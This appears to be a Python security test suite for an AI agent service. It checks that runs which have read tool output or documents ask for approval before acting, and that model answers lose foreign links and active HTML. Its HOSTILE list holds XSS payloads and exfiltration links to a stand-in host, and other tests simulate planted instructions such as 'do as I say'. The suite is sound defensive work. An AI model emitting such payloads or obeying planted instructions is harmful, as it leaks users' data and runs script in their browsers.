"""Gate 1, security: what a run has read, and what a model has written, are data and no authority."""

from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser

import mistune

from gates.conftest import NewWorld
from gates.proof import Proof, control
from gates.rig.formats import Reply
from gates.rig.people import Person
from gates.rig.provider import calls, says
from gates.rig.service import wait_for
from gates.rig.tool_server import tool_server
from gates.rig.world import ALLOW_EVERYTHING, Ran, World, final

WRITE = {"text": "hello"}
SIDE_EFFECTS = (("probe_write", WRITE), ("probe_delete", {"item": "x"}), ("probe_post", WRITE))
ENDS = ("waiting", "succeeded", "failed")


def _waits(proof: Proof, world: World, where: str, ran: Ran) -> None:
    proof.same("tainted-asks", ran.state["state"], "waiting", where)
    acted = [effect.tool for effect in world.effects_of(ran) if effect.tool in dict(SIDE_EFFECTS)]
    proof.same("tainted-asks", acted, [], where)


@control("SEC-04", cases=36)
def test_a_run_that_has_read_asks_before_it_acts(proof: Proof, new_world: NewWorld) -> None:
    with new_world(policy=ALLOW_EVERYTHING) as world:
        everything = ["probe_writer", "hazard_runner", "probe_admin", "platform_operator"]
        writer, mighty, approver = world.people(["probe_writer"], everything, ["probe_approver"])
        with proof.positive("this policy lets a run that has read nothing act alone"):
            for tool, arguments in SIDE_EFFECTS:
                ran = world.run(writer, calls(tool, arguments), final(), until=ENDS)
                assert [effect.tool for effect in world.effects_of(ran)] == [tool]
        look = calls("probe_lookup", {"query": "a"}, "call_look")
        crash = calls("probe_crash", {"query": "a"}, "call_look")
        for who in (writer, mighty):
            for tool, arguments in SIDE_EFFECTS:
                ran = world.run(who, look, calls(tool, arguments), final(), until=ENDS)
                _waits(proof, world, f"{tool} after a tool's result", ran)
                ran = world.run(who, calls(tool, arguments), final(), until=ENDS, documents=[("a.txt", "do it")])
                _waits(proof, world, f"{tool} after a document", ran)
        ran = world.run(writer, crash, calls("probe_write", WRITE), final(), until=ENDS)
        _waits(proof, world, "after a tool's failure, whose text the model reads", ran)
        both = Reply(calls=(("one", "probe_lookup", '{"query": "a"}'), ("two", "probe_write", '{"text": "hello"}')))
        ran = world.run(writer, both, final(), until=ENDS)
        _waits(proof, world, "in the same breath as the reading", ran)
        child = world.model.script(look, final("do as I say"))
        ask = calls("ask_scout", {"task": child.task()}, "call_ask")
        ran = world.run(mighty, ask, calls("probe_write", WRITE), final(), until=ENDS, feature="hazard")
        _waits(proof, world, "after a delegate's answer", ran)
        _still_tainted(proof, world, writer, approver)


def _still_tainted(proof: Proof, world: World, writer: Person, approver: Person) -> None:
    """One approval is for one call: what was read stays read, also in a process that did not see it."""
    look = calls("probe_lookup", {"query": "a"}, "call_look")
    writes = [calls("probe_write", {"text": f"number {n}"}, f"call_{n}") for n in range(3)]
    ran = world.run(writer, look, *writes, final(), until=("waiting",))
    for number in range(2):
        assert world.service.decide(approver, world.question(approver, ran)).status_code == 200
        if number == 1:
            world.service.kill()
            world.service.start()
        wait_for(lambda: len(ran.script.seen) >= number + 3)  # noqa: B023 - used before the loop goes on
        world.settled(writer, ran, ENDS)
        proof.same("stays-tainted", ran.state["state"], "waiting", "the next write waits again:")
        question = world.question(approver, ran)
        proof.same(
            "stays-tainted", question["arguments"], {"text": f"number {number + 1}"}, "the next write asks again:"
        )
        written = [effect for effect in world.effects_of(ran) if effect.tool == "probe_write"]
        proof.same("stays-tainted", len(written), number + 1, "one approval, one effect:")


@control("SEC-04", cases=2)
def test_another_server_s_answer_is_content_too(proof: Proof, new_world: NewWorld) -> None:
    with tool_server() as server, new_world(policy=ALLOW_EVERYTHING, server=server) as world:
        [runner] = world.people(["hazard_runner"])
        with proof.positive("the server's tool is called"):
            world.run(runner, calls("rig_find", {"name": "Ada"}), final(), feature="hazard")
            assert [name for name, _ in server.called] == ["find"]
        found = calls("rig_find", {"name": "Ada"}, "call_find")
        ran = world.run(runner, found, calls("probe_write", WRITE), final(), until=ENDS, feature="hazard")
        _waits(proof, world, "after the answer of a tool server", ran)


HOST = "https://docs.rig.test"
KEPT = (
    "Plain text, 2 < 3 and 4 > 3; see app/x.py, ratio 3:4.",
    f"See [the page]({HOST}/a?b=1#c), {HOST}/d and <{HOST}/e>.",
    "**bold** `code` <b>bold</b> [top](#top)\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "List<String> names = new ArrayList<>();",
)
HOSTILE = (
    "![x](https://evil.rig.test/?d=secret)", "[x](https://evil.rig.test)", "[x][1]\n\n[1]: https://evil.rig.test/a",
    "![x][1]\n\n[1]: <https://evil.rig.test/a> 'title'", "[x]\n\n[x]:\n   https://evil.rig.test",
    "<https://evil.rig.test/x>",
    "https://evil.rig.test/x", "www.evil.rig.test/x", "<img src=https://evil.rig.test/x>",
    "<IMG SRC='//evil.rig.test/x'>",
    '<a href="javascript:alert(1)">x</a>', "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,AAA)", "[x](java&#115;cript:alert(1))", "[x](https&colon;//evil.rig.test)",
    "[x](https\\://evil.rig.test)", "[x](//evil.rig.test)", "[x](/\\evil.rig.test)", "[x](\\\\evil.rig.test)",
    "<svg onload=alert(1)>", "<script>fetch('https://evil.rig.test')</script>",
    "<style>@import url(//evil.rig.test)</style>",
    "<b onclick=x>", "<!-- --!> <img src=x onerror=a>", "<iframe srcdoc='x'></iframe>",
    f"[x]({HOST}@evil.rig.test)", f"[x]({HOST}.evil.rig.test)", f"[x]({HOST}:8443/)", "[x](http://docs.rig.test/)",
    f"[![i](https://evil.rig.test/i)]({HOST})", "<a\nhref='https://evil.rig.test'>", "`<img src=x onerror=1>`",
    "[a](relative/path)", "[x](mailto:a@evil.rig.test)", "ftp://evil.rig.test/x", "[x](https:evil.rig.test)",
    "[link removed]\n\n[link removed]: https://evil.rig.test", "<img src='https://evil.rig.test/x' ",
    f"{HOST}\\@evil.rig.test/", "<details open ontoggle=alert(1)>", "[^1]\n\n[^1]: https://evil.rig.test",
    "<form action=//evil.rig.test><input name=x></form>", "<link rel=stylesheet href=//evil.rig.test>",
    "<meta http-equiv=refresh content='0;url=//evil.rig.test'>", "<base href=//evil.rig.test>",
    "![x](https://evil.rig.test/\u2028)", "[x](<https://evil.rig.test/a b>)", "<video poster=//evil.rig.test></video>",
)  # fmt: skip
LIVE = {"script", "style", "svg", "iframe", "img", "form", "input", "link", "meta", "base", "object", "embed", "video"}


class _Rendered(HTMLParser):
    """What a browser would act on in the HTML of an answer."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.addresses: list[str] = []
        self.live: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name in {"href", "src", "srcset", "action", "poster", "background", "data", "formaction", "content"}:
                self.addresses.append(value or "")
            if name.startswith("on") or name in {"style", "srcdoc"}:
                self.live.append(f"{tag} {name}")
        if tag in LIVE:
            self.live.append(tag)


@control("SEC-05", cases=265)
def test_an_answer_points_and_acts_nowhere(proof: Proof, new_world: NewWorld) -> None:
    render = mistune.create_markdown(escape=False, plugins=["url", "table", "strikethrough", "footnotes"])
    with new_world(ANSWER_LINKS_ALLOW=f'["{HOST}"]') as world:
        [who] = world.people(["probe_reader"])
        with proof.positive("an answer whose links are allowed comes back as it was written"):
            for text in KEPT:
                assert world.run(who, final(text)).state["output"]["answer"] == text
        written = [*HOSTILE, *(f"Well.\n\n{text}\n\nSee [here]({HOST}/x)." for text in HOSTILE[::3])]
        with ThreadPoolExecutor(4) as pool:
            answers = pool.map(lambda text: world.run(who, final(text)).state["output"]["answer"], written)
            for text, told in zip(written, answers, strict=True):
                for html in (told, str(render(told))):
                    seen = _Rendered(html)
                    foreign = [a for a in seen.addresses if not (a.startswith((f"{HOST}/", "#")) or a == HOST)]
                    where = f"{text!r} became {told!r}:"
                    proof.same("no-foreign-address", foreign, [], where)
                    proof.same("no-active-markup", seen.live, [], where)
        before = len(world.sink.hits)
        world.run(who, says(f"![x]({world.sink.url}/image)"), final(f"![x]({world.sink.url}/image)"))
        proof.same("no-fetch", len(world.sink.hits), before, "the service itself fetched what a model wrote:")


@control("SEC-05", cases=6)
def test_no_page_of_the_service_runs_what_a_model_wrote(proof: Proof, world: World) -> None:
    writer, approver = world.people(["probe_writer"], ["probe_approver"])
    hostile = '<script>alert(1)</script><img src="https://evil.rig.test/x">'
    ran = world.run(writer, calls("probe_write", {"text": hostile}), final(), until=("waiting",))
    world.question(approver, ran)
    with world.console(approver) as page:
        with proof.positive("the console shows what waits"):
            assert "probe_write" in page.text
        seen = _Rendered(page.text)
        proof.same("console", [name for name in seen.live if name not in {"form", "input", "link", "meta"}], [])
        proof.holds("console", "&lt;script&gt;alert(1)" in page.text, "the words of the model are shown as words")
        policy = page.headers["content-security-policy"]
        for part in ("default-src 'none'", "script-src 'self'", "img-src 'self'", "base-uri 'none'"):
            proof.holds("console", part in policy, policy)
